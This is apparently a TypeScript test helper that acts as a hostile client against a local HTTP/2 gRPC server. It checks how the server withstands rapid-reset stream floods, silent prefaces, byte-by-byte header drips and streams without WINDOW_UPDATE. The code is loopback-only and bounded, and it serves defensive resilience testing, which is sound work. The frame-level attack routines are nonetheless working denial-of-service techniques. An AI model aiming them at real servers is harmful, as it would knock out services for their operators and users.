// A hostile client, run as its own process so the test's health probes are not
// timed on the attacker's event loop. Loopback only, bounded in count and
// time, and it stops by itself. Usage: attacker.ts '<Attack as JSON>'.
// Prints one JSON line {"event":"ready"} once the attack is under way and one
// {"event":"done",...} with what it saw, then holds its connections until
// its stdin closes.
import http2 from "node:http2";
import net from "node:net";
import { create, toBinary } from "@bufbuild/protobuf";
import { GetSettingsRequestSchema } from "../../../gen/codexmanager/settings/v1/settings_pb.js";

export type Attack =
  /** Streams opened and reset at once, over many connections, reconnecting when closed. */
  | { mode: "rapid-reset"; port: number; connections: number; streamsPerSecond: number; durationMs: number }
  /** Connections that send the HTTP/2 preface and SETTINGS, then nothing. */
  | { mode: "silent-preface"; port: number; connections: number; deadlineMs: number }
  /** HTTP/2 and HTTP/1.1 requests whose headers arrive one byte at a time. */
  | { mode: "header-drip"; port: number; connections: number; byteEveryMs: number; deadlineMs: number }
  /** Big GetSettings answers on streams that never send WINDOW_UPDATE. */
  | { mode: "no-window-update"; port: number; connections: number; streamsPerConnection: number; sessionId: string; deadlineMs: number };

const attack = JSON.parse(process.argv[2]!) as Attack;
const HOST = "127.0.0.1";
const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const EMPTY_SETTINGS = Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0]);
const GET_SETTINGS = "/codexmanager.settings.v1.SettingsService/GetSettings";

const say = (line: object) => process.stdout.write(`${JSON.stringify(line)}\n`);
const noop = () => {};

/** How long each connection or stream lived, from its start to the server closing it. */
class Lifetimes {
  readonly closed: number[] = [];
  open = 0;
  start(): () => void {
    const started = Date.now();
    this.open++;
    let done = false;
    return () => {
      if (done) return;
      done = true;
      this.open--;
      this.closed.push(Date.now() - started);
    };
  }
  summary() {
    return { closed: this.closed.length, stillOpen: this.open, maxLifetimeMs: Math.max(0, ...this.closed) };
  }
}

// HTTP/2 frames, by hand: what an attacker sends is not what a polite client library would.
const frame = (type: number, flags: number, stream: number, payload: Buffer) => {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
};
const literal = (name: string, value: string) => Buffer.concat([Buffer.from([0x10, name.length]), Buffer.from(name), Buffer.from([value.length]), Buffer.from(value)]);
const REQUEST_BLOCK = Buffer.concat([literal(":method", "POST"), literal(":scheme", "http"), literal(":path", GET_SETTINGS), literal(":authority", HOST), literal("content-type", "application/grpc")]);
const HEADERS = 1;
const RST_STREAM = 3;
const GOAWAY = 7;
const END_HEADERS = 0x4;
const CANCEL = Buffer.from([0, 0, 0, 8]);

/** Counts the GOAWAY frames a connection receives. */
function onGoaway(socket: net.Socket, seen: () => void) {
  let pending = Buffer.alloc(0);
  socket.on("data", (chunk: Buffer) => {
    pending = Buffer.concat([pending, chunk]);
    while (pending.length >= 9) {
      const length = pending.readUIntBE(0, 3);
      if (pending.length < 9 + length) break;
      if (pending[3] === GOAWAY) seen();
      pending = pending.subarray(9 + length);
    }
  });
}

async function rapidReset(a: Extract<Attack, { mode: "rapid-reset" }>) {
  const deadline = Date.now() + a.durationMs;
  const maxStreams = (a.streamsPerSecond * a.durationMs) / 1000;
  /** Each connection sends 50 streams per write; this pause between writes makes the rate. */
  const pause = (50 * a.connections * 1000) / a.streamsPerSecond;
  let streams = 0;
  let sessions = 0;
  let goaways = 0;
  const slot = async () => {
    while (Date.now() < deadline && streams < maxStreams) {
      sessions++;
      const socket = net.connect(a.port, HOST);
      socket.on("error", noop);
      onGoaway(socket, () => goaways++);
      const closed = new Promise<void>((resolve) => socket.once("close", resolve));
      await new Promise<void>((resolve) => socket.once("connect", resolve).once("close", resolve));
      socket.write(Buffer.concat([PREFACE, EMPTY_SETTINGS]));
      // Each stream: HEADERS (no END_STREAM) and at once RST_STREAM, 50 streams per write.
      for (let id = 1; !socket.destroyed && Date.now() < deadline && streams < maxStreams && id < 2 ** 31 - 100; ) {
        const batch: Buffer[] = [];
        for (let i = 0; i < 50; i++, id += 2, streams++) batch.push(frame(HEADERS, END_HEADERS, id, REQUEST_BLOCK), frame(RST_STREAM, 0, id, CANCEL));
        if (!socket.write(Buffer.concat(batch))) await new Promise((r) => socket.once("drain", r).once("close", r));
        await new Promise((r) => setTimeout(r, pause));
      }
      socket.destroy();
      await closed;
    }
  };
  const slots = Array.from({ length: a.connections }, slot);
  say({ event: "ready" });
  await Promise.all(slots);
  return { streams, sessions, goaways };
}

/** Opens `count` raw sockets in batches (the listen backlog is finite), calling `start` on each. */
async function openMany(port: number, count: number, start: (socket: net.Socket, closed: () => void) => void, lifetimes: Lifetimes) {
  let failed = 0;
  for (let i = 0; i < count; i += 200) {
    await Promise.all(
      Array.from({ length: Math.min(200, count - i) }, () =>
        new Promise<void>((resolve) => {
          // Hostile: it reads (so it sees the server's FIN) but never closes its own side.
          const socket = net.connect({ port, host: HOST, allowHalfOpen: true });
          socket.resume();
          socket.once("connect", () => {
            const closed = lifetimes.start();
            socket.once("end", closed);
            socket.once("close", closed);
            start(socket, closed);
            resolve();
          });
          socket.once("error", () => {
            if (!socket.connecting) return;
            failed++;
            resolve();
          });
          socket.on("error", noop);
        })),
    );
  }
  return failed;
}

async function untilClosed(lifetimes: Lifetimes, deadlineMs: number) {
  const deadline = Date.now() + deadlineMs;
  while (lifetimes.open > 0 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 20));
}

async function silentPreface(a: Extract<Attack, { mode: "silent-preface" }>) {
  const lifetimes = new Lifetimes();
  const sockets: net.Socket[] = [];
  const failed = await openMany(a.port, a.connections, (socket) => {
    sockets.push(socket);
    socket.write(Buffer.concat([PREFACE, EMPTY_SETTINGS]));
  }, lifetimes);
  say({ event: "ready" });
  await untilClosed(lifetimes, a.deadlineMs);
  for (const s of sockets) s.destroy();
  return { connectFailed: failed, ...lifetimes.summary() };
}

async function headerDrip(a: Extract<Attack, { mode: "header-drip" }>) {
  const headers = frame(HEADERS, END_HEADERS, 1, REQUEST_BLOCK);
  const h1 = Buffer.from(`POST /api/sessions HTTP/1.1\r\nHost: ${HOST}\r\nContent-Type: application/json\r\nX-Padding: ${"x".repeat(200)}\r\n\r\n`);
  const lifetimes = new Lifetimes();
  const timers: NodeJS.Timeout[] = [];
  const drip = (socket: net.Socket, bytes: Buffer) => {
    let at = 0;
    const timer = setInterval(() => (at < bytes.length && !socket.destroyed ? socket.write(bytes.subarray(at, ++at)) : clearInterval(timer)), a.byteEveryMs);
    timers.push(timer);
    socket.once("close", () => clearInterval(timer));
  };
  const half = Math.floor(a.connections / 2);
  const failed =
    (await openMany(a.port, half, (socket) => {
      socket.write(Buffer.concat([PREFACE, EMPTY_SETTINGS]));
      drip(socket, headers);
    }, lifetimes)) + (await openMany(a.port, a.connections - half, (socket) => drip(socket, h1), lifetimes));
  say({ event: "ready" });
  await untilClosed(lifetimes, a.deadlineMs);
  timers.forEach(clearInterval);
  return { connectFailed: failed, ...lifetimes.summary() };
}

async function noWindowUpdate(a: Extract<Attack, { mode: "no-window-update" }>) {
  const body = toBinary(GetSettingsRequestSchema, create(GetSettingsRequestSchema, { sessionId: a.sessionId }));
  const envelope = Buffer.alloc(5 + body.length);
  envelope.writeUInt32BE(body.length, 1);
  envelope.set(body, 5);
  const lifetimes = new Lifetimes();
  const resetByServer: number[] = [];
  const sessions: http2.ClientHttp2Session[] = [];
  for (let c = 0; c < a.connections; c++) {
    // The default 64 KiB windows; nothing here ever reads, so nothing ever widens them.
    const session = http2.connect(`http://${HOST}:${a.port}`);
    session.on("error", noop);
    sessions.push(session);
    for (let s = 0; s < a.streamsPerConnection; s++) {
      const stream = session.request({ ":method": "POST", ":path": GET_SETTINGS, "content-type": "application/grpc", te: "trailers" });
      stream.on("error", noop);
      stream.once("response", () => {
        const closed = lifetimes.start();
        stream.once("close", () => {
          if (stream.rstCode) resetByServer.push(stream.rstCode);
          closed();
        });
      });
      stream.end(envelope);
    }
  }
  const deadline = Date.now() + a.deadlineMs;
  while (lifetimes.closed.length + lifetimes.open < a.connections * a.streamsPerConnection && Date.now() < deadline) {
    await new Promise((r) => setTimeout(r, 20));
  }
  say({ event: "ready", answering: lifetimes.open });
  await untilClosed(lifetimes, Math.max(0, deadline - Date.now()));
  for (const s of sessions) s.destroy();
  return { resetByServer: resetByServer.length, ...lifetimes.summary() };
}

const run = { "rapid-reset": rapidReset, "silent-preface": silentPreface, "header-drip": headerDrip, "no-window-update": noWindowUpdate }[attack.mode] as (a: Attack) => Promise<object>;
const started = Date.now();
const result = await run(attack);
say({ event: "done", tookMs: Date.now() - started, ...result });
// Its connections stay as they are (half-closed ones too) until the test has looked at the server.
process.stdin.resume();
process.stdin.once("end", () => process.exit(0));
